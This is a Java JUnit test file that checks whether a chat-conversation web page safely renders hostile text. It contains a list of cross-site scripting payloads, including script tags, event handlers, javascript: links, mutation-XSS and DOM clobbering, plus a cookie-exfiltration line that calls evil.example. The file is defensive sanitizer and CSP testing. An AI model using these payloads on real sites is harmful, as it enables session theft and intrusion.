package io.github.pieces4j.cli.page;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.pieces4j.browser.Browser;
import io.github.pieces4j.model.Conversation;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Shows what would attack whoever reads it. */
@Tag("any-jdk")
@Timeout(120)
class HostileTextPageTest {
  private static final String ATTACK =
      "window.attacked=1;fetch('https://evil.example/'+document.cookie)";
  private static final List<String> TEXTS =
      List.of(
          "<script>" + ATTACK + "</script>",
          "<img src=x onerror=\"" + ATTACK + "\">",
          "<svg onload=\"" + ATTACK + "\"><animate onbegin=\"" + ATTACK + "\"/></svg>",
          "<iframe srcdoc=\"<script>parent." + ATTACK + "</script>\"></iframe>",
          "<link rel=stylesheet href=//evil.example/a.css><style>@import '//evil.example/b.css';</style>",
          "<form action=https://evil.example/><button>Go</button></form>",
          "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'>",
          "![pixel](https://evil.example/pixel.png) and ![two](//evil.example/two.png \"title\")",
          "[![nested](https://evil.example/nested.png)](https://evil.example/link)",
          "[click](javascript:"
              + ATTACK
              + ") [data](data:text/html,<script>"
              + ATTACK
              + "</script>)",
          "[a](JaVaScRiPt:alert(1)) [b](&#106;avascript:alert(1)) <javascript:alert(1)> [c](vbscript:x)",
          "```\"><img src=x onerror="
              + ATTACK
              + ">\n</code></pre><script>"
              + ATTACK
              + "</script>\n```",
          "``` js onload=x class=\"evil\n" + ATTACK + "\n```",
          "[ref]: javascript:alert(1)\n\n[ref] and <a href=\"javascript:x\" style=\"position:fixed\">x</a>",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
          "<div id=list name=words></div><a id=messages name=problem href=#x>clobber</a>",
          "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
          "https://evil.example/\u202egnp.exe \u0000 \ud800 " + "> ".repeat(500) + "deep",
          "**".repeat(5_000) + "[".repeat(5_000) + "`".repeat(5_001));

  @AutoClose private final ServedPage served = new ServedPage();
  @TempDir private Path profile;

  @Test
  void nothingRunsAndNoRequestLeavesTheMachine() {
    Conversation hostile =
        served.conversation("<img src=x onerror=" + ATTACK + ">", TEXTS.toArray(String[]::new));
    Browser page = served.open(profile, "#/" + hostile.id());
    page.await(
        () ->
            page.run("return document.querySelectorAll('.message').length")
                .equals((long) TEXTS.size()),
        "all messages");
    assertThat(page.text("#name")).startsWith("<img src=x");
    for (String shown :
        List.of("<script>" + ATTACK, "Image: pixel", "<svg onload=", "<form action")) {
      assertThat(
              (Boolean)
                  page.run(
                      "return document.getElementById('messages').textContent.includes(arguments[0])",
                      shown))
          .as(shown)
          .isTrue();
    }
    page.fill("#words", "onerror");
    page.awaitText("#list mark", "onerror");
    assertThat((Boolean) page.run("return window.attacked === undefined")).isTrue();
    assertThat(
            (Long)
                page.run(
                    "return document.querySelectorAll('#messages :is(script, style, iframe, form,"
                        + " svg, math, base, meta, link, img, object, embed, input)').length"))
        .isZero();
    assertThat(
            page.run(
                "return [...document.querySelectorAll('*')].flatMap((it) => it.getAttributeNames())"
                    + ".filter((it) => it.startsWith('on') || it === 'srcdoc').join()"))
        .isEqualTo("");
    assertThat(
            (String)
                page.run(
                    "return [...document.querySelectorAll('#messages a')].map((it) => it.protocol)"
                        + ".filter((it) => !['http:', 'https:', 'mailto:'].includes(it)).join()"))
        .isEmpty();
    assertThat(
            (Boolean)
                page.run(
                    "return [...document.querySelectorAll('#messages a')].every((it) =>"
                        + " it.rel === 'noopener noreferrer' && it.target === '_blank')"))
        .isTrue();
    assertThat(page.requests())
        .isNotEmpty()
        .allMatch(
            it ->
                it.startsWith(served.url() + "/")
                    || it.startsWith("ws://127.0.0.1:" + served.url().getPort() + "/"));
    assertThat(page.errors()).isEmpty();
  }

  @Test
  void aSmallPictureInTheTextItselfIsShown() {
    String pixel =
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
    Conversation drawn =
        served.conversation("Drawn", "![a pixel](data:image/png;base64," + pixel + ")");
    Browser page = served.open(profile, "#/" + drawn.id());
    page.await(
        () ->
            Boolean.TRUE.equals(
                page.run("return document.querySelector('.text img')?.naturalWidth === 1")),
        "the picture");
    assertThat(page.errors()).isEmpty();
  }

  @Test
  void thePolicyHoldsWhereTheSanitizerWouldNot() {
    Browser page = served.open(profile, "");
    page.requests();
    Object refused =
        page.run(
            """
            const refused = [];
            const attempt = (name, action) => { try { action(); refused.push(name + " done"); } catch { refused.push(name); } };
            attempt("html", () => { document.body.innerHTML += "<b>x</b>"; });
            attempt("script", () => { document.createElement("script").text = "1"; });
            const image = new Image();
            image.src = "https://evil.example/pixel.png";
            document.body.append(image);
            return refused.join();
            """);
    assertThat(refused).isEqualTo("html,script");
    page.await(
        () ->
            page.errors().stream()
                .anyMatch(it -> it.contains("img-src") || it.contains("Content Security Policy")),
        "a refused picture");
  }
}
